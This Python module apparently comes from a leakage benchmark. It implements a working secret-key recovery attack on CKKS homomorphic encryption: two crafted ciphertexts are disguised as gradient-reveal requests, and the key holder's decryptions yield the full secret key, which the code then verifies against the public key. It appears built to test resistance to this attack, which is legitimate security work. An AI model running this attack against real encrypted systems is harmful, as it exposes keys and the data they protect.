"""The secret-key attack (Li–Micciancio style): two crafted ciphertexts, (0, Δ) and (0, Δ·X^(N/2)), sent as
an ordinary gradient reveal. A key holder that decrypts any well-formed ciphertext returns the canonical
embedding of s (real parts, then imaginary parts); an inverse DFT and rounding give every coefficient."""

import os
import struct
import tempfile
import uuid
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import tenseal as ts

from hetrain.bench.leakage import seal_math
from hetrain.core.errors import HetrainError
from hetrain.mpc_ops.crypto import wire
from hetrain.mpc_ops.crypto.seal_format import HEADER_SIZE, repack, unpack
from hetrain.mpc_ops.reveal.protocol import RevealRequest

_META = struct.Struct("<4QB3QdQ")


@dataclass(frozen=True)
class KeyAttackResult:
    refused: str | None  # the key holder's refusal, if it refused
    coefficients: int  # N
    recovered: int  # coefficients of the secret key recovered (all, or 0: the check is all-or-nothing)
    exact: bool
    residual: int | None = None  # max |b + a·s| on the public key: tiny iff s is the secret key


KEY_ERROR_BOUND = 1 << 20  # SEAL's key error is a few units; a wrong key leaves residuals near q/2


def craft(template: bytes, c1_per_prime: list[np.ndarray], slots: int) -> bytes:
    """A ciphertext at `template`'s level and scale with c0 = 0 and the given c1 (SEAL's NTT form, per prime)."""
    parts = wire.parse(template, max_slots=slots)
    payload = bytearray(unpack(parts.seal_ciphertext))
    *_, n, k, _, _ = _META.unpack_from(payload, 0)
    start = _META.size + HEADER_SIZE + 8
    coeffs = np.zeros(2 * k * n, dtype=np.uint64)
    coeffs[k * n:] = np.concatenate(c1_per_prime)
    payload[start:] = coeffs.tobytes()
    seal = repack(parts.seal_ciphertext, bytes(payload))
    return wire.build(wire.VectorBlob(parts.size, seal, parts.scale))


def crafted_pair(template: bytes, n: int, bit_sizes: list[int], scale: float) -> tuple[bytes, bytes]:
    """(0, Δ) and (0, Δ·X^(n/2)) at the template's level; Δ = the template's scale."""
    parts = wire.parse(template, max_slots=n // 2)
    k = _META.unpack_from(unpack(parts.seal_ciphertext), 0)[7]
    primes = seal_math.coeff_modulus(n, bit_sizes)[:k]
    delta = int(round(scale))
    constant = [np.full(n, delta % q, dtype=np.uint64) for q in primes]
    monomial = [seal_math.ntt_monomial(n, q, n // 2, delta % q) for q in primes]
    return craft(template, constant, n // 2), craft(template, monomial, n // 2)


def gradient_request(key_id: str, blob: bytes, slots: int, layer: str, aggregate: int, rows: list[str]) -> RevealRequest:
    """The crafted blob dressed as an ordinary aggregated-gradient reveal of every slot."""
    return RevealRequest(request_id=uuid.uuid4().hex, key_id=key_id, kind="gradient", layer=layer, round=1,
                         blobs=[blob], stride=[1], counts=[slots], aggregate=aggregate, rows=rows)


def recover_key(real: np.ndarray, rotated: np.ndarray, n: int) -> np.ndarray:
    """Secret-key coefficients from Re σ(s) and Re σ(X^(n/2)·s): slot j's root ζ^e_j raised to n/2 is i^e_j,
    so the second reveal is −Im σ(s) where e_j ≡ 1 (mod 4) and +Im σ(s) where e_j ≡ 3."""
    sign = np.where(seal_math.slot_roots(n) % 4 == 1, -1.0, 1.0)
    return np.rint(seal_math.polynomial_from_slots(real + 1j * sign * rotated, n)).astype(np.int64)


def public_key_residual(public_context: bytes, key: np.ndarray, bit_sizes: list[int]) -> int:
    """max |b + a·s| over the public key (b, a) mod its first prime: a few units (the key's error e) when
    `key` is the secret key, about q/2 otherwise. The attacker's own check: it needs no secret."""
    ctx = ts.context_from(public_context)
    fd, tmp = tempfile.mkstemp(prefix="hetrain-pk-")
    os.close(fd)
    try:
        ctx.public_key().data.save(tmp)
        payload = unpack(Path(tmp).read_bytes())
    finally:
        os.unlink(tmp)
    n = len(key)
    *_, k, _, _ = _META.unpack_from(payload, 0)
    coeffs = np.frombuffer(payload, dtype=np.uint64, offset=_META.size + HEADER_SIZE + 8).reshape(2, k, n)
    q = seal_math.coeff_modulus(n, bit_sizes)[0]
    s_hat = seal_math.ntt([int(v) for v in key], q)
    e_hat = [(int(b) + int(a) * s) % q for b, a, s in zip(coeffs[0, 0], coeffs[1, 0], s_hat)]
    return max(min(v, q - v) for v in seal_math.intt(e_hat, q))


def run(client, template: bytes, key_id: str, n: int, bit_sizes: list[int], scale: float, layer: str,
        aggregate: int, rows: list[str], public_context: bytes) -> KeyAttackResult:
    """Both crafted reveals through `client` (anything with `.reveal`), then the key, checked on the public key."""
    first, second = crafted_pair(template, n, bit_sizes, scale)
    try:
        real = client.reveal(gradient_request(key_id, first, n // 2, layer, aggregate, rows)).values[0]
        rotated = client.reveal(gradient_request(key_id, second, n // 2, layer, aggregate, rows)).values[0]
    except HetrainError as exc:
        return KeyAttackResult(f"{type(exc).__name__}: {exc}"[:300], n, 0, False)
    key = recover_key(np.asarray(real), np.asarray(rotated), n)
    residual = public_key_residual(public_context, key, bit_sizes)
    exact = residual < KEY_ERROR_BOUND and bool(np.all(np.abs(key) <= 1))
    return KeyAttackResult(None, n, n if exact else 0, exact, residual)
